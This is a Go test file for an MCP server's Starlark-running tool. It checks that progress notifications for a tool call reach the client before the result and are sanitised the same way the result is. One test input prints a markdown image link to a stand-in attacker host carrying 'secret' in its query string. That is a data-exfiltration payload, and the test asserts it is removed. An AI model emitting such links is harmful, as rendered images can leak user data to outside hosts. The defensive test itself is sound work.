package server_test

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// wireOrder records, in the order the client's connection reads them,
// the progress messages of one token and whether the tool call's
// response came before any of them. The client dispatches notifications
// to its handler apart from responses, so the order a handler sees is
// not the order the server sent; the wire is.
type wireOrder struct {
	mcp.Transport
	token string

	mu     sync.Mutex
	msgs   []string
	result bool // a response to a tools/call has been read
	late   bool // a progress message was read after it
	calls  map[string]bool
}

type orderConn struct {
	mcp.Connection
	w *wireOrder
}

func (w *wireOrder) Connect(ctx context.Context) (mcp.Connection, error) {
	c, err := w.Transport.Connect(ctx)
	if err != nil {
		return nil, err
	}
	return &orderConn{c, w}, nil
}

func (c *orderConn) Write(ctx context.Context, m jsonrpc.Message) error {
	if req, ok := m.(*jsonrpc.Request); ok && req.Method == "tools/call" && strings.Contains(string(req.Params), `"progressToken":"`+c.w.token+`"`) {
		c.w.mu.Lock()
		c.w.calls[idText(req.ID)] = true
		c.w.mu.Unlock()
	}
	return c.Connection.Write(ctx, m)
}

func (c *orderConn) Read(ctx context.Context) (jsonrpc.Message, error) {
	m, err := c.Connection.Read(ctx)
	if err != nil {
		return m, err
	}
	c.w.mu.Lock()
	defer c.w.mu.Unlock()
	switch m := m.(type) {
	case *jsonrpc.Request:
		if m.Method != "notifications/progress" {
			break
		}
		var p struct {
			ProgressToken any    `json:"progressToken"`
			Message       string `json:"message"`
		}
		if json.Unmarshal(m.Params, &p) == nil && p.ProgressToken == c.w.token {
			c.w.msgs = append(c.w.msgs, p.Message)
			c.w.late = c.w.late || c.w.result
		}
	case *jsonrpc.Response:
		if c.w.calls[idText(m.ID)] {
			c.w.result = true
		}
	}
	return m, nil
}

func idText(id jsonrpc.ID) string {
	b, _ := json.Marshal(id)
	return string(b)
}

// TestMCPProgress: a tool call with a progress token gets the run's
// output, sanitised as the result is, in progress notifications that
// are on the wire before the result, which is as without them.
func TestMCPProgress(t *testing.T) {
	f := newFixture(t)
	srv, err := f.srv.MCP("a")
	if err != nil {
		t.Fatal(err)
	}
	client := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil)
	ct, st := mcp.NewInMemoryTransports()
	wire := &wireOrder{Transport: ct, token: "run-1", calls: map[string]bool{}}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	ss, err := srv.Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	cs, err := client.Connect(ctx, wire, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { cs.Close(); ss.Wait() }()

	code := "print('first')\nprint('![x](https://evil.example/?q=secret)')\nn = 0\nfor i in range(200000):\n    n += i\nprint('second', n)"
	params := &mcp.CallToolParams{Name: "run_starlark", Arguments: map[string]any{"code": code}}
	params.SetProgressToken("run-1")
	res, err := cs.CallTool(ctx, params)
	if err != nil {
		t.Fatal(err)
	}
	wire.mu.Lock()
	got, late, result := strings.Join(wire.msgs, ""), wire.late, wire.result
	wire.mu.Unlock()
	if !result {
		t.Fatal("the tool call's response was not seen on the wire")
	}
	if late {
		t.Fatal("a progress notification came after the result")
	}
	plainRes, plain := call(t, cs, "run_starlark", map[string]any{"code": code}) // the same, without a token
	if res.IsError || !strings.HasPrefix(got, "first\n") || strings.Contains(got, "evil.example") {
		t.Fatalf("progress messages %q (result error %v)", got, res.IsError)
	}
	if got != string(plain.Stdout) {
		t.Fatalf("progress messages joined %q, the result's stdout %q", got, plain.Stdout)
	}
	if text(res) != text(plainRes) {
		t.Fatalf("the result with progress differs from one without:\n%s\n%s", text(res), text(plainRes))
	}
}
